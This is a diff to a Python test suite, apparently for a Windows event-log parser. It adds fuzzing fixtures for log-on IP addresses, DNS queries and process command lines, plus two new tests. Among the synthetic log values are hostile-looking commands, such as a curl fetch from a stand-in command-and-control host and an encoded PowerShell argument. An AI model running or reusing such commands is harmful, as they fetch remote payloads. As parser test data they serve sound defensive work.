@@ -139,6 +139,12 @@ def some_digests(chance: random.Random) -> str:
     )
 
 
+CAME_FROM = ["192.0.2.7", "198.51.100.9", "-", "10.1.1.9", "10.1.1.10", "172.31.0.1", "172.32.0.1", "127.0.0.1", "0.0.0.0", "224.0.0.5",
+             "10.1.1.255", "010.1.1.9", "::ffff:10.1.1.9", "fe80::1", "", "10.1.1.9\0", "ể", "\ud800", "192.0.2.7:5"]  # fmt: skip
+COMMANDS = ["cmd /c a.exe -q", "a.exe.", "x.exe-y.example", "a.dll/b.bad.example", "-e", "/enc SQBFAFgAIABoAHQAdABwADoALwAvAGEA",
+            "A.EXE", "http://srv", "ping 10.1.2.3", "a.ps1\u2028-e", "run -x 5"]  # fmt: skip
+
+
 def some_record(chance: random.Random) -> Record:
     """An event of one of the kinds that logs are full of."""
     user = chance.choice(["UNIT\\an", "NT AUTHORITY\\SYSTEM", "", "PC-17$", "Đặng Ân", 'a"b'])
@@ -148,12 +154,37 @@ def some_record(chance: random.Random) -> Record:
     ports = chance.choice(
         ["0", "443", str(chance.randrange(65536)), "", "no", "65536", "00443", "000443", " 5", "5\0", "٣"]
     )
-    asked = chance.choice(["bot-c2.xyz", "", "-", "a b", "WWW.Unit.Example.", "\ud800", ".", "x" * 300])
+    asked = chance.choice(
+        [
+            "bot-c2.xyz",
+            "c2.bad.example",
+            "n/a",
+            "x." + "y" * 64 + ".example",
+            "z" * 63 + ".example",
+            "",
+            "-",
+            "a b",
+            "WWW.Unit.Example.",
+            "\ud800",
+            ".",
+            "x" * 300,
+        ]
+    )
     answered = chance.choice(
-        ["::ffff:192.0.2.1;", "type:  5 cdn.bad.example;192.0.2.9;192.0.2.9;", "", "-", "\ud800"]
+        [
+            "::ffff:192.0.2.1;",
+            "::ffff:192.0.2.01;",
+            "::ffff:192.0.2.1",
+            "::ffff:192.0.2.2;::ffff:192.0.2.2;",
+            "type:  5 cdn.bad.example;192.0.2.9;192.0.2.9;",
+            "",
+            "-",
+            "\ud800",
+        ]
     )
     ran = chance.choice(
         [
+            *COMMANDS,
             "curl http://c2.bad.example/a",
             "b",
             "ping 192.0.2.4",
@@ -177,7 +208,7 @@ def some_record(chance: random.Random) -> Record:
         lambda: Record(22, [written, *process, *strings(QueryName="bot-c2.xyz", QueryResults="::ffff:192.0.2.1;", User=user)]),
         lambda: Record(13, [written, *process, *strings(TargetObject="HKLM\\a", Details="http://203.0.113.7/b")]),
         lambda: Record(4624, [("SubjectUserSid", SID, bytes.fromhex("010100000000000512000000")), ("LogonId", HEX64, chance.randbytes(8)),
-                              *strings(TargetUserName=user, IpAddress=chance.choice(["192.0.2.7", "-", "10.1.1.9"]), IpPort=ports,
+                              *strings(TargetUserName=user, IpAddress=chance.choice(CAME_FROM), IpPort=ports,
                                        WorkstationName="PC-17")], SECURITY, "Security"),
         lambda: Record(900, [written, ("At", FILETIME, struct.pack("<Q", FIRST_TIME)), *strings(Text="see http://x.bad.example/")], "Other", "Application"),
         lambda: Record(901, strings(a="1", b="http://x.bad.example/"), "Other", "Application", unnamed=True),
@@ -246,6 +277,8 @@ ONE_EVENT = {
     ),
     "a question and its answer": lambda at: Record(22, strings(QueryName=f"h{at}.example", QueryResults=f"192.0.2.{at};")),
     "a command that mentions nothing": lambda at: Record(1, strings(CommandLine=f"run.exe /n {at}", ParentCommandLine=f"{at}")),
+    "a log-on from a machine": lambda at: Record(4624, strings(TargetUserName="an", IpAddress=f"10.1.1.{at}", IpPort="5"), SECURITY, "Security"),
+    "a log-on from outside": lambda at: Record(4625, strings(TargetUserName="an", IpAddress=f"192.0.2.{at}"), SECURITY, "Security"),
     "the port of a log-on": lambda at: Record(4624, strings(TargetUserName="an", IpAddress="10.1.1.9", IpPort=str(at)), SECURITY, "Security"),
 }  # fmt: skip
 
@@ -257,6 +290,15 @@ def test_what_stands_alone_makes_no_event_of_its_own(make: Callable[[int], Recor
     maker.read([template_chunk(records)])
     assert len(maker.events) == 1
     assert items_of(file(template_chunk(records))) == by_library(file(template_chunk(records)))
+
+
+def test_half_a_character_is_left_to_the_library() -> None:
+    """One such value among others must not shift them."""
+    data = [strings(QueryName=f"h{at}.example", QueryResults="::ffff:192.0.2.1;") for at in range(5)]
+    data[2][0] = ("QueryName", STRING, b"h\0.\0e\0x\0a")
+    chunk = template_chunk([Record(22, one) for one in data])
+    assert left_of(chunk) == [2]
+    assert items_of(file(chunk)) == by_library(file(chunk))
 
 
 @pytest.mark.parametrize("name", EVENT_LOGS)
